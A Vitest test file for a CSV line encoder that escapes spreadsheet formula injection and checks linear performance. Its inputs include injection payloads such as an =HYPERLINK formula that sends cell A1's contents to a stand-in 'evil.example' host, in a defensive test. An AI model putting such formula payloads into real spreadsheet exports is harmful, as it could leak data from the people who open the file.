import { expect, test } from 'vitest'
import { growthOf, linear } from '../testing/growth.ts'
import { csvLine } from './csv.ts'

test.each([
  [['a', 'b c', ''], 'a,b c,'],
  [['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines'], '"a,b","say ""hi""","two\nlines","two\r\nlines"'],
  [['Zoë 🌍', 'مرحبا'], 'Zoë 🌍,مرحبا'],
  [['=1+1', '+1', '-1', '@SUM(A1)'], "'=1+1,'+1,'-1,'@SUM(A1)"],
  [['\t=1', '\r=1', '\n=1'], "'\t'=1,\"'\r'=1\",\"'\n'=1\""],
  [['=HYPERLINK("https://evil.example?"&A1,"x")'], '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"'],
  [['＝1', '＋1', '－1', '＠A'], "'＝1,'＋1,'－1,'＠A"],
  [['a=b', '1-1', 'a@b.cd'], 'a=b,1-1,a@b.cd'],
  [['Hello; how are you? 1 + 1 = 2', 'a;b', 'a\tb'], 'Hello; how are you? 1 + 1 = 2,a;b,a\tb'],
  [['Bob;=HYPERLINK("http://evil")'], '"Bob;\'=HYPERLINK(""http://evil"")"'],
  // Characters that other CSV dialects strip before the sign.
  [['a; =1', 'a;"=1"', 'a;;=1;+1'], 'a; \'=1,"a;""\'=1""",a;;\'=1;\'+1'],
])('%j', (cells, line) => {
  expect(csvLine(cells)).toBe(`${line}\r\n`)
})

test.each([';', '\t', '\r', '\n', '\r\n'])(
  'no sign begins a formula after %j, which ends a cell or a line elsewhere',
  (end) => {
    for (const sign of '=+-@＝＋－＠') expect(csvLine([`Bob${end}${sign}1`])).toContain(`Bob${end}'${sign}1`)
  },
)

test.each([';', '\n', ' ;', '"', ';"'])('many %j cost in proportion to their number', async (part) => {
  const growth = await growthOf((length) => {
    const text = part.repeat(length)
    return () => csvLine([text])
  }, 100_000)
  expect(growth).toBeLessThan(linear)
})
